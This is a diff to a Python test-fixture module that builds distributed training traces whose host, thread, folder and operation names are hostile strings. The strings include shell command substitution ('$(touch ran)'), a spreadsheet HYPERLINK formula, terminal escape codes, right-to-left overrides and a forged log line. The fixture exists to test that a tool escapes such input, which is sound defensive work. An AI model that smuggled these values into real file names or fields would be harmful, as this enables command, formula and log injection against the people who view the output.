@@ -6,16 +6,20 @@ import unicodedata
 from pathlib import Path
 
 from tests.builders import et_text, write
-from tests.planted import A100, Scene
+from tests.planted import A100, PlannedJob, Scene
+from tests.planted.hosts import Host
 from tests.planted.nodes import nodes_of
 
-__all__ = ["FORMULAS", "LONG", "NAMES", "RAN", "hostile_job", "steering"]
+__all__ = ["FOLDER", "FORGED", "FORMULAS", "LONG", "NAMES", "RAN", "hostile_job", "hostile_ranks", "steering"]
 
 RAN = "hostile_name_ran"
 """What the names' scripts set in a page, or name where they are taken for code."""
 
 LONG = 10_000
 """Characters of the longest name."""
+
+FORGED = "error: forged"
+"""A line that a name would add to what is printed."""
 
 FORMULAS = {
     "equals": '=HYPERLINK("http://example.com/"&A1,"name")',
@@ -42,6 +46,7 @@ NAMES = {
     "right to left": "\u202egnp.exe\u202c \u2066x\u2069 \u200f\u05d0\u05d1",
     "invisible": "a\u200bb\u00adc\ufeffd",
     "control": "bell\x07 escape\x1b[31m\x1b]0;title\x07 null\x00 csi\x9b2J delete\x7f",
+    "forged": f"a\n{FORGED}\rwarning: b\x85{FORGED}",
     "lines": "a\nb\r\nc\u2028d\u2029e\x0bf",
     "emoji": "kernel \U0001f9f5 \U0001f469\u200d\U0001f469\u200d\U0001f467",
     "combining": "Z" + "\u0301\u0323" * 40,
@@ -76,6 +81,39 @@ def hostile_job(folder: Path) -> Path:
     scene.write(folder)
     nodes = et_text(nodes_of(scene)).replace('"pid": 1,', f'"pid": {scene.pid},', 1)
     write(folder / "torch_et_0.json", nodes)
+    return folder
+
+
+FOLDER = "x\x1b[31m\u202e\n" + FORGED + "\n$(touch ran)`touch ran`;'\"|&<i>\udcff"
+"""The name of a folder."""
+
+
+def hostile_ranks(folder: Path) -> Path:
+    """Write the pairs of two ranks that communicate: hosts, groups, devices, threads and work have such names."""
+    hosts = [Host(NAMES["image"]), Host(f"a\n{FORGED}")]
+    job = PlannedJob(2, hosts, devices=[{**A100, "name": NAMES["script"]}])
+    group = job.group(NAMES["control"] + NAMES["forged"] + NAMES["attribute"], [0, 1])
+    for scene, thread in zip(job.scenes, job.threads, strict=True):
+        scene.thread(NAMES["control"])
+        thread.name = NAMES["forged"]
+    for number in (1, 2):
+        with job.step(number):
+            for count, name in enumerate(NAMES.values()):
+                for scene, thread in zip(job.scenes, job.threads, strict=True):
+                    with (
+                        thread.annotation(name),
+                        thread.module(f"{name}_{count}"),
+                        thread.frame(f"{name}(1): {name}"),
+                    ):
+                        block = thread.allocate(4096)
+                        with thread.op(name, dims=[[64, 64], [64, 64]], types=[name, name]):
+                            thread.launch(scene.stream(7), name, 20_000)
+                        thread.release(block)
+            job.collective("allreduce", group)
+    for scene in job.finished():
+        scene.write(folder)
+        nodes = et_text(nodes_of(scene)).replace('"pid": 1,', f'"pid": {scene.pid},', 1)
+        write(folder / f"torch_et_{scene.rank}.json", nodes)
     return folder
 
 
